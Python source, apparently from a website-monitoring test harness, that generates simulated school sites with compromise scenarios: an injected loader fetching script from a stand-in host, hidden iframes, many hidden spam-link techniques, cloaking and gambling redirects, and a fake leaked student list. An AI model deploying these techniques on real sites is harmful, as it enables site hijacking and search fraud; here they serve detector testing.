"""The pages of the virtual school sites, one builder per (host, seed, school).

A page is generated once per site and scenario and kept as bytes with its headers (``Page``); the server only copies
them out. Scenario ``dynamic`` is kept as static chunks with a few slots (date, visit counter, news order, carousel
start) filled per request, and the cloaking scenarios keep two pages and choose by request header, so no scenario
rebuilds HTML on the hot path.

Everything is derived from ``random.Random(f"…#{host}#{seed}")`` (string seeds hash the same in every process), so the
same site looks the same after a restart on the same day.
"""

from __future__ import annotations

import datetime as dt
import email.utils
import html
import itertools
import random
import re
import zlib
from dataclasses import dataclass, field

from monitoring.simfarm import content as c
from monitoring.simfarm.identity import make_id_number, make_mobile

DEFAULT_PAGE_SIZE = 30_000
HTML_TYPE = "text/html; charset=utf-8"

SPIDER_MARKERS = ("baiduspider", "googlebot", "bingbot", "360spider", "sogou")
MOBILE_MARKERS = ("android", "iphone", "ipad", "ipod", "mobile", "harmonyos", "windows phone")
SEARCH_REFERERS = ("baidu.com", "so.com", "sogou.com", "sm.cn", "bing.com", "google.", "soso.com", "toutiao.com")

# Slot markers inside the HTML of a dynamic page; NUL never occurs in generated text.
_SLOT = "\x00{}\x00"


def _rng(kind: str, host: str, seed: int) -> random.Random:
    return random.Random(f"{kind}#{host}#{seed}")


def pick_locale(host: str, seed: int) -> tuple[str, str, str, str, str]:
    return _rng("locale", host, seed).choice(c.LOCALES)


def invent_school_name(host: str, seed: int = 0) -> str:
    """A plausible Chinese school name, stable for a host and seed."""
    city, district, *_ = pick_locale(host, seed)
    rng = _rng("school", host, seed)
    kind = rng.choice(c.SCHOOL_KINDS)
    if rng.random() < 0.4:
        return f"{city}{district}{rng.choice(c.ORDINALS)}{kind.removeprefix('实验')}"
    return f"{city}{rng.choice(c.SCHOOL_CORES)}{kind}"


def http_date(day: dt.date | dt.datetime) -> str:
    if not isinstance(day, dt.datetime):
        day = dt.datetime(day.year, day.month, day.day, 8, 30, tzinfo=dt.UTC)
    return email.utils.format_datetime(day.astimezone(dt.UTC), usegmt=True)


def is_spider(user_agent: str) -> bool:
    ua = user_agent.lower()
    return any(marker in ua for marker in SPIDER_MARKERS)


def is_mobile(user_agent: str) -> bool:
    ua = user_agent.lower()
    return any(marker in ua for marker in MOBILE_MARKERS)


def from_search_engine(referer: str) -> bool:
    referer = referer.lower()
    return any(marker in referer for marker in SEARCH_REFERERS)


@dataclass(slots=True)
class Page:
    """A finished answer: status, headers and body, reused for every request of a static scenario."""

    status: int
    headers: dict[str, str]
    body: bytes


def in_gbk(page: Page) -> Page:
    """``page`` as an older school CMS serves it: in GBK (GB18030, its superset, for the few characters GBK lacks),
    declared by ``<meta charset="gb2312">`` alone, the Content-Type header naming no charset."""
    return Page(page.status, _gbk_headers(page.headers), _gbk_body(page.body))


def _gbk_body(body: bytes) -> bytes:
    return body.decode("utf-8").replace('<meta charset="utf-8">', '<meta charset="gb2312">', 1).encode("gb18030")


def _gbk_headers(headers: dict[str, str]) -> dict[str, str]:
    if headers.get("Content-Type") == HTML_TYPE:
        return {**headers, "Content-Type": "text/html"}
    return headers


@dataclass(slots=True)
class DynamicPage:
    """Static chunks and slots; ``render()`` fills the slots, so each answer differs but costs no HTML building."""

    chunks: list  # bytes or a slot name (str), in order
    headers: dict[str, str]
    news_items: list[bytes]
    slides: list[str]
    counter: itertools.count = field(default_factory=lambda: itertools.count(1))
    visits_base: int = 0

    def render(self, now: dt.datetime | None = None, rng: random.Random | None = None) -> bytes:
        now = now or dt.datetime.now()
        rng = rng or random
        news = self.news_items[:]
        rng.shuffle(news)
        start = rng.randrange(len(self.slides))
        values = {
            "date": f"今天是 {now:%Y年%m月%d日} 星期{'一二三四五六日'[now.weekday()]} {now:%H:%M:%S}".encode(),
            "counter": str(self.visits_base + next(self.counter)).encode(),
            "news": b"".join(news),
            "carousel": _carousel(self.slides, start).encode(),
            "carousel_start": str(start).encode(),
        }
        return b"".join(values[chunk] if isinstance(chunk, str) else chunk for chunk in self.chunks)


def _box(title: str, more: str, inner: str) -> str:
    return f'<div class="box"><h2>{title}<a class="more" href="{more}">更多&gt;&gt;</a></h2>{inner}</div>\n'


def _carousel(slides: list[str], start: int) -> str:
    return "".join(
        slide.replace('class="slide"', 'class="slide active"', 1) if i == start else slide
        for i, slide in enumerate(slides)
    )


CSS = """
*{margin:0;padding:0;box-sizing:border-box}
body{font:14px/1.6 "Microsoft YaHei","PingFang SC",SimSun,sans-serif;color:#333;background:#f4f6f9}
a{color:#333;text-decoration:none}a:hover{color:#b71c1c}
.wrap{width:1200px;margin:0 auto}
.topbar{background:#8b0000;color:#fff;font-size:12px;line-height:32px}.topbar a{color:#fff;margin-left:12px}
.header{background:#fff url(/static/images/header-bg.jpg) no-repeat right center;height:120px}
.header .logo{float:left;margin-top:22px}.header .logo img{height:76px;vertical-align:middle}
.header h1{display:inline-block;font-size:30px;color:#8b0000;margin-left:12px;vertical-align:middle}
.header .search{float:right;margin-top:44px}.header .search input{border:1px solid #ccc;height:30px;width:200px}
.nav{background:#b71c1c}.nav .menu>li{float:left;position:relative;list-style:none}
.nav .menu>li>a{display:block;color:#fff;font-size:16px;line-height:48px;padding:0 22px}
.nav .menu>li:hover>a{background:#8b0000}
.sub-menu{display:none;position:absolute;top:48px;left:0;z-index:99;background:#fff;min-width:140px;
box-shadow:0 2px 6px rgba(0,0,0,.2)}
.has-sub:hover .sub-menu,.has-sub:focus-within .sub-menu{display:block}
.sub-menu li{list-style:none}.sub-menu a{display:block;padding:8px 16px;border-bottom:1px dashed #eee}
.clearfix:after{content:"";display:block;clear:both}
.carousel{position:relative;height:380px;overflow:hidden;margin:16px auto}
.carousel .slide{display:none}.carousel .slide.active{display:block}
.carousel .slide img{width:100%;height:380px;object-fit:cover}
.carousel .slide p{position:absolute;bottom:0;width:100%;background:rgba(0,0,0,.45);color:#fff;padding:8px 16px}
.box{background:#fff;margin-bottom:16px;padding:12px 16px}
.box h2{font-size:18px;color:#8b0000;border-bottom:2px solid #b71c1c;padding-bottom:6px;margin-bottom:8px}
.box h2 .more{float:right;font-size:12px;font-weight:normal;color:#999}
.list li{list-style:none;line-height:32px;border-bottom:1px dotted #ddd;overflow:hidden}
.list li .date{float:right;color:#999}
.news-item{overflow:hidden;padding:10px 0;border-bottom:1px dotted #ddd}
.news-item img{float:left;width:160px;height:100px;margin-right:12px}
.news-item h3{font-size:15px}.news-item p{color:#666;font-size:13px}
.col-left{float:left;width:790px}.col-right{float:right;width:394px}
.quick a{display:inline-block;width:46%;margin:4px 2%;background:#fbe9e7;text-align:center;line-height:36px}
.ticker{background:#fff;line-height:36px;margin-top:16px;padding:0 16px}
.footer{background:#5d0000;color:#eee;text-align:center;padding:20px 0;font-size:13px;line-height:26px}
.footer a{color:#eee}
.mobile-toggle{display:none}
.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}
@media (max-width:768px){.wrap{width:100%}.col-left,.col-right{float:none;width:100%}.mobile-toggle{display:block}}
"""


CAROUSEL_SCRIPT = (
    '<script>(function(){var b=document.getElementById("banner");if(!b)return;'
    'var s=b.querySelectorAll(".slide"),i=+b.getAttribute("data-start")||0;'
    'setInterval(function(){s[i].className="slide";i=(i+1)%s.length;s[i].className="slide active";},5000);})();'
    "</script>\n"
)


class SchoolPages:
    """All pages of one site. Construction draws every random choice once; the ``*_page`` methods only compose."""

    def __init__(
        self, host: str, school: str, seed: int = 0, *, today: dt.date | None = None, page_size: int = DEFAULT_PAGE_SIZE
    ):
        self.host = host
        self.school = school
        self.seed = seed
        self.today = today or dt.date.today()
        self.page_size = page_size
        rng = _rng("page", host, seed)
        self.rng_seed = rng.random()
        city, district, province, area_code, division = pick_locale(host, seed)
        self.city, self.district = city, district
        self.short = "我校"
        self.address = f"{city}{district}{rng.choice(c.ROADS)}{rng.randrange(1, 400)}号"
        self.postcode = f"{division[:2]}{rng.randrange(1000, 9999):04d}"
        self.phone = f"{area_code}-{rng.randrange(10**7, 10**8):08d}"
        self.icp = f"{province}ICP备{rng.randrange(10**7, 10**8):08d}号-{rng.randrange(1, 4)}"
        self.police = f"{province}公网安备 {division}{rng.randrange(10, 99)}{rng.randrange(10**7, 10**8):08d}号"
        self.founded = rng.randrange(1905, 2012)
        self.modified_days_ago = rng.randrange(0, 4)

        def fill(template: str) -> str:
            return template.format(
                year=self.today.year, short=self.short, theme=rng.choice(c.THEMES), n=rng.randrange(2, 30)
            )

        # Day offsets (not dates) so the stale page can place the same news years back.
        self.notices = [
            (fill(t), f"/xwzx/tzgg/{rng.randrange(1000, 9999)}.html", day)
            for t, day in zip(rng.sample(c.NOTICE_TITLES, 8), sorted(rng.sample(range(1, 90), 8)), strict=True)
        ]
        self.news = [
            (fill(t), f"/xwzx/xxxw/{rng.randrange(10000, 99999)}.html", day, self._summary(rng), rng.randrange(1, 40))
            for t, day in zip(rng.sample(c.NEWS_TITLES, 10), sorted(rng.sample(range(0, 120), 10)), strict=True)
        ]
        self.teaching = [
            (fill(t), f"/jyjx/jxdt/{rng.randrange(1000, 9999)}.html", day)
            for t, day in zip(rng.sample(c.NEWS_TITLES, 7), sorted(rng.sample(range(3, 200), 7)), strict=True)
        ]
        self.slides = [
            (fill(caption), f"/xwzx/xxxw/{rng.randrange(10000, 99999)}.html", i + 1)
            for i, caption in enumerate(rng.sample(c.SLIDE_CAPTIONS, 4))
        ]
        self.spam = rng.sample(c.SPAM_LINKS, 7)
        self.hidden_id = f"lnk{rng.randrange(16**6):06x}"
        self.filler: list[tuple[str, str, int, str]] = []
        # Fill the "校园动态" column until the healthy page reaches the size asked for.
        missing = page_size - len(self._compose().encode())
        while missing > 0:
            item = (
                fill(rng.choice(c.NEWS_TITLES)),
                f"/xwzx/xydt/{rng.randrange(10000, 99999)}.html",
                rng.randrange(0, 365),
                self._summary(rng),
            )
            self.filler.append(item)
            missing -= len(self._filler_item(item, self.today).encode())

    # --- building blocks ---------------------------------------------------------------------------------------

    @staticmethod
    def _summary(rng: random.Random) -> str:
        return "".join(rng.sample(c.SENTENCES, 3))

    @staticmethod
    def _day(base: dt.date, days_ago: int) -> dt.date:
        return base - dt.timedelta(days=days_ago)

    def _head(self, title: str, *, stale: bool, extra: str = "") -> str:
        generator = '<meta name="generator" content="DedeCMS V5.3">\n' if stale else ""
        scripts = (
            '<script type="text/javascript" src="/include/js/jquery-1.4.2.min.js"></script>\n'
            '<script type="text/javascript" src="/include/js/dedeajax2.js"></script>\n'
            if stale
            else '<script src="/static/js/jquery-3.7.1.min.js" defer></script>\n'
            '<script src="/static/js/main.js" defer></script>\n'
        )
        e = html.escape
        return (
            "<!DOCTYPE html>\n"
            '<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n'
            '<meta http-equiv="X-UA-Compatible" content="IE=edge">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
            f"<title>{e(title)}</title>\n"
            f'<meta name="keywords" content="{e(self.school)},{e(self.district)}教育,学校新闻,通知公告">\n'
            f'<meta name="description" content="{e(self.school)}官方网站，创办于{self.founded}年。">\n'
            f"{generator}"
            '<link rel="icon" href="/favicon.ico">\n<link rel="stylesheet" href="/static/css/style.css">\n'
            f"<style>{CSS}</style>\n{scripts}{extra}</head>\n"
        )

    def _topbar(self, base: dt.date, dynamic: bool) -> str:
        if dynamic:
            date = _SLOT.format("date")
        else:
            date = f"今天是 {base:%Y年%m月%d日} 星期{'一二三四五六日'[base.weekday()]}"
        return (
            f'<div class="topbar"><div class="wrap clearfix"><span>{date}</span><span style="float:right">'
            f"欢迎访问{html.escape(self.school)}官方网站"
            '<a href="/">设为首页</a><a href="/">加入收藏</a><a href="/en/">English</a></span></div></div>\n'
        )

    def _header(self) -> str:
        e = html.escape(self.school)
        return (
            '<header class="header"><div class="wrap clearfix">'
            f'<a class="logo" href="/"><img src="/static/images/logo.png" alt="{e}校徽"><h1>{e}</h1></a>'
            '<form class="search" action="/search/" method="get" role="search">'
            '<label for="kw" class="sr-only">站内搜索</label>'
            '<input id="kw" name="q" type="search" placeholder="请输入关键词">'
            '<button type="submit">搜索</button></form></div></header>\n'
        )

    def _nav(self) -> str:
        # The dropdowns are hidden by the stylesheet until hover or keyboard focus: the ordinary, accessible pattern
        # every school CMS uses, with same-site links only. A hidden-link analyser must not alert on it.
        items = []
        for i, (label, path, subs) in enumerate(c.MENU):
            if not subs:
                items.append(f'<li><a href="{path}">{label}</a></li>')
                continue
            sub = "".join(f'<li><a href="{path}{slug}/">{name}</a></li>' for name, slug in subs)
            items.append(
                f'<li class="has-sub"><a href="{path}" aria-haspopup="true" aria-expanded="false" '
                f'aria-controls="sub{i}">{label}</a>'
                f'<ul class="sub-menu" id="sub{i}" aria-label="{label}">{sub}</ul></li>'
            )
        menu = "".join(items)
        return (
            '<nav class="nav" aria-label="主导航"><div class="wrap">'
            f'<ul class="menu clearfix">{menu}</ul></div></nav>\n'
        )

    def _mobile_menu(self) -> str:
        # Also benign: a collapsed mobile menu, display:none inline, toggled by a button that names it.
        links = "".join(f'<a href="{path}">{label}</a>' for label, path, _ in c.MENU)
        return (
            '<button class="mobile-toggle" type="button" aria-controls="mobile-menu" aria-expanded="false" '
            "onclick=\"var m=document.getElementById('mobile-menu');var o=m.style.display==='block';"
            "m.style.display=o?'none':'block';this.setAttribute('aria-expanded',String(!o));\">菜单</button>\n"
            f'<div id="mobile-menu" class="mobile-menu" style="display:none" aria-label="移动端导航">{links}</div>\n'
        )

    def _slides(self) -> list[str]:
        return [
            f'<div class="slide"><a href="{url}"><img src="/uploads/banner/{self.host.split(".")[0]}-{n}.jpg" '
            f'alt="{html.escape(caption)}"></a><p>{html.escape(caption)}</p></div>'
            for caption, url, n in self.slides
        ]

    def _carousel(self, dynamic: bool) -> str:
        if dynamic:
            inner, start = _SLOT.format("carousel"), _SLOT.format("carousel_start")
        else:
            inner, start = _carousel(self._slides(), 0), "0"
        return f'<div class="carousel wrap" id="banner" data-start="{start}" data-interval="5000">{inner}</div>\n'

    def _notice_list(self, base: dt.date) -> str:
        items = "".join(
            f'<li><span class="date">{self._day(base, day):%Y-%m-%d}</span>'
            f'<a href="{url}" title="{html.escape(title)}">{html.escape(title)}</a></li>'
            for title, url, day in self.notices
        )
        return _box("通知公告", "/xwzx/tzgg/", f'<ul class="list">{items}</ul>')

    def _news_items(self, base: dt.date) -> list[str]:
        return [
            f'<div class="news-item"><a href="{url}"><img src="/uploads/news/{img}.jpg" alt=""></a>'
            f'<h3><a href="{url}">{html.escape(title)}</a></h3><p>{summary}</p>'
            f'<span class="date">{self._day(base, day):%Y-%m-%d}</span></div>'
            for title, url, day, summary, img in self.news
        ]

    def _news(self, base: dt.date, dynamic: bool, extra: str = "") -> str:
        items = _SLOT.format("news") if dynamic else "".join(self._news_items(base))
        return (
            '<div class="box"><h2>学校新闻<a class="more" href="/xwzx/xxxw/">更多&gt;&gt;</a></h2>'
            f'<div class="news-list">{extra}{items}</div></div>\n'
        )

    def _teaching(self, base: dt.date) -> str:
        items = "".join(
            f'<li><span class="date">{self._day(base, day):%m-%d}</span><a href="{url}">{html.escape(title)}</a></li>'
            for title, url, day in self.teaching
        )
        return _box("教育教学", "/jyjx/", f'<ul class="list">{items}</ul>')

    @staticmethod
    def _filler_item(item: tuple[str, str, int, str], base: dt.date) -> str:
        title, url, day, summary = item
        return (
            f'<div class="news-item"><h3><a href="{url}">{html.escape(title)}</a></h3><p>{summary}</p>'
            f'<span class="date">{base - dt.timedelta(days=day):%Y-%m-%d}</span></div>'
        )

    def _campus(self, base: dt.date) -> str:
        items = "".join(self._filler_item(item, base) for item in self.filler)
        return f'<div class="box"><h2>校园动态<a class="more" href="/xwzx/xydt/">更多&gt;&gt;</a></h2>{items}</div>\n'

    def _sidebar(self, extra: str = "") -> str:
        quick = "".join(f'<a href="{path}">{label}</a>' for label, path in c.QUICK_LINKS)
        friends = "".join(
            f'<li><a href="{url}" target="_blank" rel="noopener">{label}</a></li>' for label, url in c.FRIEND_LINKS
        )
        return (
            f'<div class="box quick"><h2>快速通道</h2>{quick}</div>\n{extra}'
            f'<div class="box"><h2>友情链接</h2><ul class="list">{friends}</ul></div>\n'
        )

    def _ticker(self) -> str:
        # A normal-speed news ticker with same-site links: a marquee that is meant to be read.
        links = "&nbsp;&nbsp;&nbsp;".join(
            f'<a href="{url}">{html.escape(title)}</a>' for title, url, _ in self.notices[:5]
        )
        return (
            '<div class="ticker wrap"><strong>最新动态：</strong>'
            f'<marquee behavior="scroll" direction="left" scrollamount="4" onmouseover="this.stop()" '
            f'onmouseout="this.start()">{links}</marquee></div>\n'
        )

    def _footer(self, base: dt.date, *, registration: bool, dynamic: bool) -> str:
        lines = [
            f"<p>版权所有 &copy; {base.year} {html.escape(self.school)}　"
            f"地址：{self.address}　邮编：{self.postcode}</p>",
            f"<p>联系电话：{self.phone}　电子邮箱：xb@{self.host}</p>",
        ]
        if registration:
            lines.append(
                f'<p><span class="icp">{self.icp}</span>　'
                '<img src="/static/images/gongan.png" alt="" width="16" height="16"> '
                f'<span class="gongan">{self.police}</span></p>'
            )
        if dynamic:
            lines.append(f'<p>您是本站第 <span id="visits">{_SLOT.format("counter")}</span> 位访客</p>')
        lines.append("<p>技术支持：区教育信息中心　建议使用1280×800以上分辨率浏览</p>")
        return f'<footer class="footer">{"".join(lines)}</footer>\n'

    def _compose(
        self,
        *,
        title: str | None = None,
        stale: bool = False,
        registration: bool = True,
        dynamic: bool = False,
        head_extra: str = "",
        after_body: str = "",
        news_extra: str = "",
        main_extra: str = "",
        side_extra: str = "",
        before_footer: str = "",
        before_body_end: str = "",
    ) -> str:
        base = self._stale_base() if stale else self.today
        return "".join(
            (
                self._head(title or self.school, stale=stale, extra=head_extra),
                "<body>\n",
                after_body,
                self._topbar(base, dynamic),
                self._header(),
                self._nav(),
                self._mobile_menu() if dynamic else "",
                self._ticker() if dynamic else "",
                self._carousel(dynamic),
                '<div class="wrap main clearfix"><div class="col-left">\n',
                self._news(base, dynamic, news_extra),
                main_extra,
                self._teaching(base),
                self._campus(base),
                '</div><div class="col-right">\n',
                self._notice_list(base),
                self._sidebar(side_extra),
                "</div></div>\n",
                before_footer,
                self._footer(base, registration=registration, dynamic=dynamic),
                CAROUSEL_SCRIPT,
                before_body_end,
                "</body>\n</html>\n",
            )
        )

    def _stale_base(self) -> dt.date:
        # The last time anybody touched a stale site: some day in 2015 or 2016.
        return dt.date(2015, 3, 1) + dt.timedelta(days=int(self.rng_seed * 600))

    # --- headers ---------------------------------------------------------------------------------------------

    def _headers(self, body: bytes, *, stale: bool = False, last_modified: dt.date | None = None) -> dict[str, str]:
        if stale:
            return {
                "Content-Type": HTML_TYPE,
                "Server": "Apache/2.2.15 (CentOS)",
                "X-Powered-By": "PHP/5.2.17",
                "Last-Modified": http_date(self._stale_base()),
            }
        return {
            "Content-Type": HTML_TYPE,
            "Server": "nginx",
            "X-Frame-Options": "SAMEORIGIN",
            "X-Content-Type-Options": "nosniff",
            "Last-Modified": http_date(last_modified or self._day(self.today, self.modified_days_ago)),
            "ETag": f'"{zlib.crc32(body):08x}-{len(body):x}"',
        }

    def _page(self, text: str, *, status: int = 200, stale: bool = False) -> Page:
        body = text.encode()
        return Page(status, self._headers(body, stale=stale), body)

    # --- scenarios -------------------------------------------------------------------------------------------

    def healthy_page(self) -> Page:
        return self._page(self._compose())

    def missing_icp_page(self) -> Page:
        return self._page(self._compose(registration=False))

    def stale_page(self) -> Page:
        return self._page(self._compose(stale=True), stale=True)

    def dynamic_page(self) -> DynamicPage:
        text = self._compose(dynamic=True)
        chunks: list = []
        for i, part in enumerate(text.split("\x00")):
            # Odd parts are slot names because every slot is written as NUL name NUL.
            chunks.append(part if i % 2 else part.encode())
        headers = {"Content-Type": HTML_TYPE, "Server": "nginx", "Cache-Control": "no-cache, no-store"}
        news = [item.encode() for item in self._news_items(self.today)]
        base = int(self.rng_seed * 900_000) + 100_000
        return DynamicPage(chunks, headers, news, self._slides(), visits_base=base)

    def error_page(self) -> Page:
        body = (
            b"<html>\r\n<head><title>500 Internal Server Error</title></head>\r\n<body>\r\n"
            b"<center><h1>500 Internal Server Error</h1></center>\r\n<hr><center>nginx</center>\r\n"
            b"</body>\r\n</html>\r\n"
        )
        return Page(500, {"Content-Type": HTML_TYPE, "Server": "nginx"}, body)

    def defaced_page(self) -> Page:
        """Either a black "Hacked by" page or the whole body replaced by gambling content (chosen by host)."""
        if self.defacement_style() == "hacked":
            crew = random.Random(self.rng_seed).choice(c.HACKER_CREWS)
            body = (
                '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n'
                f"<title>Hacked by {crew}</title>\n</head>\n"
                '<body style="background:#000;color:#0f0;font-family:monospace;text-align:center;padding-top:120px">\n'
                f'<h1 style="color:#f00;font-size:48px">Hacked by {crew}</h1>\n'
                "<p>Your security is just an illusion. We were here.</p>\n"
                "<p>Patch your system, admin. Nothing was deleted. This is a warning.</p>\n"
                f"<p>Greetz: all members of {crew} - Kami tidak pernah tidur</p>\n"
                '<marquee style="color:#fff">-=[ Owned ]=-</marquee>\n</body>\n</html>\n'
            )
        else:
            body = self._spam_html(f"澳门新葡京娱乐场 - 网上博彩第一品牌 - {self.school}")
        return self._page(body)

    def defacement_style(self) -> str:
        return "hacked" if zlib.crc32(self.host.encode()) % 2 == 0 else "gambling"

    def malicious_script_page(self) -> Page:
        payload = (
            'var s=document.createElement("script");s.src="http://js.tj-count88.example/c.js?id=2281";'
            'document.getElementsByTagName("head")[0].appendChild(s);var f=document.createElement("iframe");'
            'f.src="http://www.amxpj-888.example/in.html";f.width=0;f.height=0;f.frameBorder=0;'
            "document.body.appendChild(f);"
        )
        injected_head = (
            '<script type="text/javascript" src="http://cdn.jquery-static.example/jquery.min.js?v=1.8.3"></script>\n'
        )
        injected_end = f'<script type="text/javascript">{packed_loader(payload)}</script>\n'
        return self._page(self._compose(head_extra=injected_head, before_body_end=injected_end))

    def keywords_page(self) -> Page:
        rng = random.Random(self.rng_seed)
        gambling = rng.sample(c.GAMBLING_PHRASES, 4)
        porn = rng.sample(c.PORN_PHRASES, 3)
        items = "".join(
            f'<li><span class="date">{self.today:%m-%d}</span><a href="/xwzx/rdtj/{100 + i}.html">{phrase}'
            f"，{text}</a></li>"
            for i, (phrase, text) in enumerate(
                [
                    (gambling[0], "注册即送88元，官方直营信誉第一"),
                    (gambling[1], "最新开奖结果实时查询"),
                    (porn[0], "免费在线观看高清无码"),
                    (gambling[2], "手机投注24小时在线"),
                    (porn[1], "同城美女视频聊天"),
                ]
            )
        )
        block = (
            f'<div class="box"><h2>热门推荐</h2><ul class="list">{items}</ul>'
            f"<p>{gambling[3]}、{porn[2]}、{gambling[0]}，点击进入官网。</p></div>\n"
        )
        return self._page(self._compose(side_extra=block))

    def id_leak_page(self) -> Page:
        rng = random.Random(f"{self.rng_seed}#students")
        rows = []
        for i in range(1, 16):
            male = rng.random() < 0.5
            birth = dt.date(self.today.year - rng.randrange(7, 16), rng.randrange(1, 13), rng.randrange(1, 29))
            name = rng.choice(c.SURNAMES) + "".join(rng.sample(c.GIVEN_CHARS, rng.choice((1, 2))))
            rows.append(
                f"<tr><td>{i}</td><td>{name}</td><td>{'男' if male else '女'}</td>"
                f"<td>{rng.randrange(1, 7)}年级{rng.randrange(1, 9)}班</td><td>{make_id_number(rng, birth, male)}</td>"
                f"<td>{make_mobile(rng)}</td><td>{rng.choice(('一档', '二档', '三档'))}</td></tr>"
            )
        table = (
            f'<div class="box"><h2>关于{self.today.year}年秋季学期家庭经济困难学生资助名单的公示</h2>'
            "<p>根据上级有关文件精神，经学生本人申请、班级评议、学校审核，现将拟资助学生名单公示如下，"
            "公示期为5个工作日。如有异议，请与学校学生资助管理办公室联系。</p>"
            '<table class="table" border="1" cellspacing="0" cellpadding="4" '
            'style="width:100%;border-collapse:collapse">'
            "<thead><tr><th>序号</th><th>姓名</th><th>性别</th><th>班级</th><th>身份证号</th><th>家长联系电话</th>"
            f"<th>资助档次</th></tr></thead><tbody>{''.join(rows)}</tbody></table>"
            f"<p>学生资助管理办公室　{self.today:%Y年%m月%d日}</p></div>\n"
        )
        return self._page(self._compose(main_extra=table))

    def hidden_links_page(self, technique: str) -> Page:
        placement, block = self.hidden_block(technique)
        return self._page(self._compose(**{placement: block}))

    def hidden_block(self, technique: str) -> tuple[str, str]:
        """The injected block for a hidden-link technique and where on the page it goes, as real 暗链 look."""
        links = self.spam
        anchors = "".join(f'<a href="{url}" target="_blank">{text}</a>' for text, url in links)
        ident = self.hidden_id
        blocks = {
            "css_display_none": ("after_body", f'<div style="display:none">{anchors}</div>\n'),
            "css_visibility_hidden": ("after_body", f'<div style="visibility:hidden">{anchors}</div>\n'),
            "css_opacity_zero": ("before_footer", f'<div style="opacity:0;filter:alpha(opacity=0)">{anchors}</div>\n'),
            "css_zero_size": ("before_footer", f'<div style="width:0;height:0;overflow:hidden">{anchors}</div>\n'),
            "css_font_size_zero": ("before_footer", f'<div style="font-size:0;line-height:0">{anchors}</div>\n'),
            "css_same_colour": (
                "before_footer",
                '<div style="color:#FFFFFF;background-color:#FFFFFF">'
                + "".join(f'<a href="{url}" style="color:#FFFFFF">{text}</a>' for text, url in links)
                + "</div>\n",
            ),
            "css_text_indent": ("after_body", f'<div style="text-indent:-9999px">{anchors}</div>\n'),
            "css_clip": ("after_body", f'<div style="position:absolute;clip:rect(0px,0px,0px,0px)">{anchors}</div>\n'),
            "offscreen_position": (
                "after_body",
                f'<div style="position:absolute;top:-1000px;left:-1000px">{anchors}</div>\n',
            ),
            "negative_margin": ("before_footer", f'<div style="margin-left:-5000px">{anchors}</div>\n'),
            "marquee_tiny": (
                "before_footer",
                f'<marquee width="1" height="1" scrollamount="3000" scrolldelay="1">{anchors}</marquee>\n',
            ),
            "js_write_hidden": (
                "before_footer",
                '<script type="text/javascript">document.write(\'<div style="display:none">\');</script>\n'
                f"{anchors}\n<script type=\"text/javascript\">document.write('</div>');</script>\n",
            ),
            "js_hide_after_load": (
                "before_footer",
                f'<div id="{ident}">{anchors}</div>\n<script type="text/javascript">'
                f'window.onload=function(){{document.getElementById("{ident}").style.display="none";}};</script>\n',
            ),
            "noscript_links": ("after_body", f"<noscript>{anchors}</noscript>\n"),
            "comment_links": ("before_body_end", f"<!-- {anchors} -->\n"),
            "data_attribute_links": (
                "before_footer",
                '<div class="site-data">'
                + "".join(f'<i data-url="{url}" data-title="{text}"></i>' for text, url in links)
                + "</div>\n",
            ),
            "bare_domain_text": (
                "before_footer",
                '<div class="wrap"><p class="tags">'
                + "　".join(f"{text} {url.split('/')[2]}" for text, url in links)
                + "</p></div>\n",
            ),
            "zero_size_iframe": (
                "before_body_end",
                "".join(
                    f'<iframe src="{url}" width="0" height="0" frameborder="0" scrolling="no"></iframe>'
                    for _, url in links[:4]
                )
                + "\n",
            ),
        }
        try:
            return blocks[technique]
        except KeyError:
            raise ValueError(f"unknown hidden-link technique {technique!r}") from None

    def page(self, scenario: str) -> Page:
        """The page a plain visitor gets for a scenario, built on the spot: for other modules' tests and tools.

        ``dynamic`` is rendered once, ``slow`` and the cloaking scenarios give the ordinary page; ``timeout`` and
        ``refused`` have no page.
        """
        if scenario.startswith("hidden_"):
            return self.hidden_links_page(scenario.removeprefix("hidden_"))
        if scenario == "dynamic":
            dynamic = self.dynamic_page()
            return Page(200, dynamic.headers, dynamic.render())
        if scenario == "slow" or scenario.startswith("cloaking_"):
            return self.healthy_page()
        method = getattr(self, f"{scenario}_page", None)
        if method is None:
            raise ValueError(f"scenario {scenario!r} has no page")
        return method()

    # --- cloaking --------------------------------------------------------------------------------------------

    def _spam_html(self, title: str) -> str:
        anchors = "".join(f'<li><a href="{url}">{text}</a></li>' for text, url in self.spam)
        phrases = "，".join(c.GAMBLING_PHRASES)
        paragraphs = "".join(
            f"<p>{text}官方网站，{phrases}。{text}提供真人视讯、体育投注、电子游艺，注册即送彩金，"
            f"存款秒到账，信誉保证，欢迎新老会员。</p>"
            for text, _ in self.spam
        )
        return (
            '<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n'
            f"<title>{html.escape(title)}</title>\n"
            f'<meta name="keywords" content="{",".join(text for text, _ in self.spam)}">\n'
            f'<meta name="description" content="{phrases}">\n</head>\n<body>\n'
            f'<h1>{html.escape(title)}</h1>\n<ul class="spam">{anchors}</ul>\n{paragraphs}\n</body>\n</html>\n'
        )

    def spider_page(self) -> Page:
        """What search-engine spiders see on a cloaked site: the school's name hijacked for gambling SEO."""
        return self._page(self._spam_html(f"{self.spam[0][0]}_百家乐_网上博彩-{self.school}"))

    def mobile_redirect(self) -> Page:
        # The mobile host of the same spam site (every spam link is a www. site under .example).
        target = self.spam[0][1].replace("://www.", "://m.", 1) + f"?from={self.host}"
        body = f'<html><head><meta http-equiv="refresh" content="0;url={target}"></head><body></body></html>'.encode()
        return Page(302, {"Content-Type": HTML_TYPE, "Server": "nginx", "Location": target}, body)

    def referer_redirect(self) -> Page:
        """Visitors coming from a search engine are sent to the gambling site by the server itself (来路跳转)."""
        target = self.spam[0][1]
        body = f'<html><head><title>302 Found</title></head><body><a href="{target}">{target}</a></body></html>'
        return Page(302, {"Content-Type": HTML_TYPE, "Server": "nginx", "Location": target}, body.encode())

    def referer_page(self) -> Page:
        """Visitors coming from a search engine are bounced to the gambling site."""
        target = self.spam[0][1]
        redirect = (
            f'<meta http-equiv="refresh" content="0;url={target}">\n'
            f'<script type="text/javascript">window.location.href="{target}";</script>\n'
        )
        text = self._spam_html(f"{self.spam[0][0]} - {self.school}").replace("</head>", redirect + "</head>", 1)
        return self._page(text)


# The spam sites the farm's pages link and redirect to: the farm drops every connection to them, as to a dead site
# (spam domains come and go; a closed education network may not reach them at all). A monitor must judge a cloaked
